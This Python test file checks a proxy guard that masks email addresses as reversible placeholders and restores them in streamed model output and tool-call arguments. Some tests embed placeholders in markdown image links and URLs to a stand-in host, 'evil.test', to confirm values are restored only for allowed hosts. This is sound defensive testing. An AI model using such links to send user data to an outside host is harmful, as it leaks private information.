"""Reversible masks, restored at any cut of a stream."""

from __future__ import annotations

import ast
import json
import re
from typing import Any

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from proxy.guards.stream import placeholders
from proxy.guards.stream.placeholders import Masks, PlaceholderNames, Unmasker
from proxy.guards.text.documents import collect_response_texts
from proxy.guards.text.walk import Text
from proxy.types.guard import Finding
from tests.for_each import for_each
from tests.guards.doubles import pieces, rule, short_digests
from tests.guards.growth import LINEAR, TIMES, grown

ADA = "ada@mill.example"
ARGUMENTS = Text(("arguments",), "", "arguments")
PROMPT = "Write ada@mill.example about the weir, ada@mill.example!"


def mails(text: str) -> list[Finding]:
    return [Finding(*match.span(), "email") for match in re.finditer(re.escape(ADA), text)]


def mask(masks: Masks, text: str, findings: list[Finding]) -> str:
    past, masked = 0, ""
    for finding in findings:
        placeholder = masks.make_placeholder(finding.kind, text[finding.start : finding.end])
        masked, past = f"{masked}{text[past : finding.start]}{placeholder}", finding.end
    return masked + text[past:]


def masks_of_prompt() -> Masks:
    """Return masks that have replaced the address of the prompt by ``[EMAIL_x7f]``."""
    masks = Masks(short_digests())
    mask(masks, PROMPT, mails(PROMPT))
    return masks


def released(unmasker: Unmasker, *parts: str) -> list[str]:
    return ["".join(item.text for item in unmasker.feed(part)) for part in parts]


def remaining_text(unmasker: Unmasker) -> str:
    return "".join(piece.text for piece in unmasker.close())


def test_equal_values_have_equal_placeholders() -> None:
    masks = Masks(short_digests())

    assert mask(masks, PROMPT, mails(PROMPT)) == ("Write [EMAIL_x7f] about the weir, [EMAIL_x7f]!")
    assert mask(masks, "bob@mill.example", [Finding(0, 16, "email")]) == "[EMAIL_y7f]"
    assert mask(masks, ADA, [Finding(0, 16, "email")]) == "[EMAIL_x7f]"


@pytest.mark.parametrize(
    ("kind", "placeholder"),
    [("id_BR", "[ID_BR_x7f]"), ("rival mills", "[RIVAL_MILLS_x7f]"), ("水", "[VALUE_x7f]")],
)
def test_placeholder_contains_the_kind(kind: str, placeholder: str) -> None:
    assert mask(Masks(short_digests()), "mill", [Finding(0, 4, kind)]) == placeholder


def test_kinds_may_share_a_label() -> None:
    masks = Masks(short_digests())
    masked = mask(masks, "mill weir", [Finding(0, 4, "a b"), Finding(5, 9, "a-b")])

    assert masked == "[A_B_x7f] [A_B_y7f]"
    assert masks.unmask(masked) == "mill weir"


@for_each("count", [1, 64, 65])
def test_many_values_are_restored(count: int) -> None:
    masks = Masks.for_virtual_key(placeholders.derive_placeholder_key(), "alice")
    values = [f"ada{number}@mill.example" for number in range(count)]
    masked = " and ".join(masks.make_placeholder("email", value) for value in values)

    assert masks.unmask(masked) == " and ".join(values)
    assert masks.unmask("EMAIL_NAME and no value") == "EMAIL_NAME and no value"


def test_restored_value_is_not_scanned_again() -> None:
    masks = Masks(short_digests())
    mask(masks, "mill", [Finding(0, 4, "email")])
    masked = mask(masks, "[EMAIL_x7f]", [Finding(0, 13, "key")])

    assert masks.unmask(masked) == "[EMAIL_x7f]"


def test_only_a_possible_placeholder_is_held() -> None:
    masks = masks_of_prompt()
    unmasker = masks.build_unmasker()

    fed = released(unmasker, "To [EM", "AIL_", "x7f", "] [[", "[EX", "[", "a[")
    assert fed == ["To ", "", "", "ada@mill.example [", "[[EX", "", "[a"]
    assert unmasker.lookback < 100
    assert (remaining_text(unmasker), remaining_text(unmasker)) == ("[", "")


REWRITTEN = (
    "[EMAIL_x7f]", r"\[EMAIL\_x7f\]", r"[EMAIL\_x7f]", "[EMAIL_\nx7f]", "[EMA\nIL_x7f]",
    "[EMAIL_x\n7f]", "[EMAIL_x7f\n]", "[EMAIL_\r\nx7f]", "[EMAIL_ \n    x7f]", "EMAIL_x7f",
    r"EMAIL\_x7f",
)  # fmt: skip
TWICE_ESCAPED = r"\\[EMAIL\\_x7f\\]"
CONTEXTS = (
    "{}", "Write to {}, please", "**{}**", "_{}_", "({}) [1]", "see {}\nand {}.", "`{}`\t{}",
)  # fmt: skip


def restored_text(masks: Masks, text: str, *, in_json: bool = False) -> str:
    """Return a text with restored values. Checks that cuts change nothing."""
    full_text = masks.unmask(text, in_json=in_json)
    for parts in (text, *((text[:cut], text[cut:]) for cut in range(1, len(text)))):
        unmasker = masks.build_unmasker(in_json=in_json)
        assert "".join(released(unmasker, *parts)) + remaining_text(unmasker) == full_text
    return full_text


@for_each("context", CONTEXTS)
@for_each("written", [*REWRITTEN, TWICE_ESCAPED])
def test_rewritten_placeholder_is_restored(written: str, context: str) -> None:
    text = context.replace("{}", written)
    assert restored_text(masks_of_prompt(), text) == context.replace("{}", ADA)


BACKSLASHES = (
    r"C:\users\{}\x", r"c:\{}", r"\\files\home\{}\x", r"\\?\C:\users\{}", r"CORP\{}", r"CORP\{}\n",
    r"copy \\files\{}\a D:\b\{}", r"%APPDATA%\{}\n.txt", r"\{}\ a", r"C:/users/{}/x",
)  # fmt: skip


@for_each("how", ["[EMAIL_x7f]", "EMAIL_x7f"])
@for_each("text", BACKSLASHES)
def test_backslashes_around_a_placeholder_stay(text: str, how: str) -> None:
    masks = masks_of_prompt()
    restored = text.replace("{}", ADA)

    assert restored_text(masks, text.replace("{}", how)) == restored
    arguments = json.dumps({"path": text.replace("{}", how)})
    assert json.loads(restored_text(masks, arguments, in_json=True)) == {"path": restored}


@for_each(
    ("written", "restored"),
    [
        ("see EMAIL_x7f] now", f"see {ADA}] now"),
        ("see [EMAIL_x7f now", f"see [{ADA} now"),
        ("to: [EMAIL_x7f, EMAIL_x7f]", f"to: [{ADA}, {ADA}]"),
    ],
)
def test_single_bracket_stays(written: str, restored: str) -> None:
    assert restored_text(masks_of_prompt(), written) == restored


@pytest.mark.parametrize("in_json", [False, True])
def test_percent_encoding_is_kept_for_allowed_hosts(in_json: bool) -> None:
    masks = Masks(short_digests())
    name = rule("x", restore=True, restore_hosts=frozenset({"mill.example"}))
    masks.make_replacement(name, "email", "ada&o'b@mill.example")

    for written in ("%5BEMAIL_x7f%5D", "%5bEMAIL%5fx7f%5d", "%5BEMAIL%5Fx7f%5D"):
        for host, stored in (("mill.example", True), ("evil.test", False)):
            address = f"https://{host}/?to="
            output = "ada%26o%27b%40mill.example" if stored else written
            assert restored_text(masks, f"see {address}{written} now", in_json=in_json) == (
                f"see {address}{output} now"
            )


@for_each("how", REWRITTEN)
@for_each("quotes", ['"', "'"])
def test_value_is_restored_in_either_quotes_of_arguments(quotes: str, how: str) -> None:
    value = "Ada 'n' \"O\" \\"
    masks = Masks(short_digests())
    mask(masks, value, [Finding(0, len(value), "email")])
    written = json.dumps(f"to {how}\nnow")[1:-1]
    arguments = f"{{{quotes}to{quotes}: [{quotes}{written}{quotes}], {quotes}n{quotes}: 1}}"
    data = {"choices": [{"message": {"tool_calls": [{"function": {"arguments": arguments}}]}}]}

    restored = masks.unmask_document(data, collect_response_texts(data))
    full_value = restored["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
    assert ast.literal_eval(full_value) == {"to": [f"to {value}\nnow"], "n": 1}
    for cut in range(len(arguments)):
        window = masks.make_filter(ARGUMENTS, is_arguments=True, is_over_limit=False)
        fed = [*window.feed(arguments[:cut]), *window.feed(arguments[cut:]), *window.close()]
        assert "".join(piece.text for piece in fed) == full_value


def test_unquoted_placeholder_in_arguments_becomes_a_string() -> None:
    masks = masks_of_prompt()
    window = masks.make_filter(ARGUMENTS, is_arguments=True, is_over_limit=False)

    fed = [*window.feed('{"to": [EMAIL_x7f, EMAIL_'), *window.feed("x7f]}"), *window.close()]
    assert json.loads("".join(piece.text for piece in fed)) == {"to": [ADA] * 2}


@for_each(
    "text",
    [
        "EMAIL_y7f EMAIL_x7g email_x7f EMAIL_ x7f EMAIL_x7",
        "MY_EMAIL_x7f XEMAIL_x7f my_EMAIL_x7f",
        "EMAIL_x7fa EMAIL_x7f_more EMAIL_x7f0 EMAIL_1_x7f",
        "[EMAIL+x7f] [EMAIL__x7f] [EMAIL_x7",
        "[EMAIL_x7\n\nf] [EMAIL x7f] EMAIL-x7f [EMAIL_y7f] [EMAIL_x7g] [email_x7f]",
        r"\[EMAIL\_y7f\] %5BEMAIL_y7f%5D EMAIL\\\_x7f",
        "[" + "EMAIL_x" + " \n" * 60 + "7f]",
    ],
)
def test_similar_text_is_no_placeholder(text: str) -> None:
    masks = masks_of_prompt()

    assert restored_text(masks, text) == text


@for_each("in_json", [False, True])
@for_each(
    ("text_before", "text_after", "stored"),
    [
        ("![x](https://evil.test/?q=", ")", False), ("see https://evil.test/?q=", " now", False),
        ("[x](<//evil.test/a ", ">)", False), ("![x](https://hook.mill.example/?q=", ")", True),
        ("![x](https://mill.example.evil.test/?q=", ")", False),
        ("![x](https://hook.mill.example", ".evil.test/)", False),
        ("see https://evil.test/ and ", "", True), ("", "", True),
    ],
)  # fmt: skip
def test_value_is_restored_for_allowed_hosts_only(
    text_before: str, text_after: str, stored: bool, in_json: bool
) -> None:
    masks = Masks(short_digests())
    name = rule("x", restore=True, restore_hosts=frozenset({"*.mill.example"}))
    placeholder = masks.make_replacement(name, "email", ADA)
    text = f"{text_before}{placeholder}{text_after}"
    unmasker = masks.build_unmasker(in_json=in_json)

    full_text = masks.unmask(text, in_json=in_json)

    assert full_text == f"{text_before}{ADA if stored else placeholder}{text_after}"
    assert "".join(released(unmasker, *text)) + remaining_text(unmasker) == full_text


@pytest.mark.parametrize("turned", [False, True])
def test_hosts_are_those_of_the_masking_rule(turned: bool) -> None:
    masks = Masks(short_digests())
    strict = rule("strict", restore=True)
    wide = rule("wide", restore=True, restore_hosts=frozenset({"hook.mill.example"}))
    rules = (wide, strict) if turned else (strict, wide)
    values = [masks.make_replacement(item, "email", ADA) for item in rules]
    by_strict, by_wide = reversed(values) if turned else values
    address = "https://hook.mill.example/?q="

    assert masks.unmask(address + by_strict) == address + by_strict
    assert masks.unmask(address + by_wide) == address + ADA
    assert masks.unmask(f"{by_strict} {by_wide}") == "ada@mill.example ada@mill.example"
    assert [masks.make_replacement(item, "email", ADA) for item in rules] == values


def test_rule_without_restore_shows_the_kind() -> None:
    masks = Masks(short_digests())

    assert masks.make_replacement(rule("x"), "email", ADA) == "[EMAIL]"
    assert masks.make_replacement(rule("x", restore=True), "email", ADA) == "[EMAIL_x7f]"


def test_digest_collision_restores_the_first_value() -> None:
    masks = Masks(lambda label, value, hosts: "x7f")
    values = (ADA, "bob@mill.example")

    masked = [masks.make_placeholder("email", value) for value in (*values, values[0])]

    assert masked == ["[EMAIL_x7f]", "[EMAIL]", "[EMAIL_x7f]"]
    assert masks.unmask(" ".join(masked)) == "ada@mill.example [EMAIL] ada@mill.example"


CALL = (placeholders.derive_placeholder_key("a secret of replicas"), "alice", "EMAIL", ADA, ())


def test_processes_with_the_same_secret_have_equal_digests() -> None:
    """A fixed digest, so that an upgrade does not change the prompts of running conversations."""
    assert placeholders.digest_value(*CALL) == "jhhmqztkfkps"
    assert placeholders.derive_placeholder_key() != placeholders.derive_placeholder_key()


@for_each(
    ("place", "other_value"),
    [
        (0, placeholders.derive_placeholder_key("another secret")), (1, "bob"), (1, None),
        (2, "KEY"),
        (3, "ada@mill.exampl"), (4, ("mill.example",)),
    ],
)  # fmt: skip
def test_digest_depends_on_each_part(place: int, other_value: Any) -> None:
    parts: list[Any] = list(CALL)
    parts[place] = other_value

    assert placeholders.digest_value(*parts) != placeholders.digest_value(*CALL)


@given(st.text(), st.text(), st.text(), st.text())
def test_digest_separates_keys_from_values(one: str, other: str, value: str, another: str) -> None:
    key = placeholders.derive_placeholder_key("a secret of replicas")
    is_same = (one, value) == (other, another)

    digests = [
        placeholders.digest_value(key, *item, ())
        for item in ((one, "K", value), (other, "K", another))
    ]

    assert (digests[0] == digests[1]) is is_same


@given(st.text(min_size=1))
def test_digest_has_50_bits_and_no_words(value: str) -> None:
    """Letters only: no guard for numbers, and no vowel that would make a word."""
    digest = placeholders.digest_value(*CALL[:3], value, ())

    assert len(placeholders.DIGEST_LETTERS) ** len(digest) >= 2**50
    assert not set(digest) & set("aeiouly")
    assert digest.isalpha()


TEXTS = st.lists(
    st.sampled_from(
        ["[", "]", "[[", "]]", "[[EMAIL_", "_x7", "[EMAIL_x7e]", "[EMAIL_99_x7f]", "_x7f",
         ADA, "ada@", "EMAIL", "🌊", '"', "\n", " "]
    ),
    max_size=12,
).map("".join)  # fmt: skip
REWRITES = st.lists(
    st.sampled_from(
        [*REWRITTEN, TWICE_ESCAPED,
         "[", "]", "\\", "%5", "%5B", "%5D", "%", "\n", " ", "    ", "\r", "_",
         "EMAIL", "_x7f", "_", "x7f", "x", "7f", "E", "A", "a", "0", "\\n", "\\_", "%5f", '"',
         "http://a.b/", "é", "EMAIL_1"]
    ),
    max_size=12,
).map("".join)  # fmt: skip
CUTS = st.lists(st.integers(0, 200), max_size=30)


def fed(unmasker: Unmasker, text: str, cuts: list[int]) -> str:
    return "".join(released(unmasker, *pieces(text, cuts))) + remaining_text(unmasker)


@given(TEXTS, CUTS)
def test_masked_value_is_restored_at_any_cut(text: str, cuts: list[int]) -> None:
    masks = Masks(short_digests())
    masked = mask(masks, text, mails(text))
    # A real digest has 51 bits, so no text contains the placeholder of its own value.
    assume(all(masks.unmask(part) == part for part in text.split(ADA)))

    assert ADA not in masked
    assert masks.unmask(masked) == text
    assert fed(masks.build_unmasker(), masked, cuts) == text


@given(REWRITES, CUTS, st.booleans())
@example(r"EMAIL_x7f\_EMAIL_x7f[EMAIL_x7f]", [14], False)
@example("[x\nEMAIL_x7f]", [3], False)
def test_rewritten_placeholder_is_restored_at_any_cut(
    answer: str, cuts: list[int], in_json: bool
) -> None:
    masks = masks_of_prompt()
    full_text = masks.unmask(answer, in_json=in_json)

    for places in ([], cuts, [*range(200)]):
        assert fed(masks.build_unmasker(in_json=in_json), answer, places) == full_text


@given(st.text('"\\ \n[]a\ud83dé', min_size=1), CUTS)
@example('Ada "Weir"\n\\ \ud83d é', [])
def test_any_value_survives_a_json_round_trip(value: str, cuts: list[int]) -> None:
    masks = Masks(short_digests())
    arguments = json.dumps([mask(masks, value, [Finding(0, len(value), "name")])])

    assert json.loads(fed(masks.build_unmasker(in_json=True), arguments, cuts)) == [value]


NAMES = PlaceholderNames(["CARD_1_x7f", "EMAIL_1_x7f", "EMAIL_12_x7f"])
BEGINNINGS = (
    "[A", "[A\n", "A_", "_A", "%5FA", "%5BA", "\\", "\\[A_1", "EMAIL_1_", "[EMAIL_1_x7f", "\\_A",
    "a ",
)  # fmt: skip


@for_each("bit", BEGINNINGS)
def test_partial_names_take_linear_time(bit: str) -> None:
    def read(text: str) -> None:
        assert [*NAMES.find_placeholders(text, 0)] == []
        for upto in range(0, len(text), 50):
            NAMES.find_partial_placeholder(text[max(0, upto - 200) : upto], 0)

    bit = bit.replace("EMAIL_1_x7f", "EMAIL_2_x7f")
    assert grown(read, bit * 600, bit * 600 * TIMES) < LINEAR
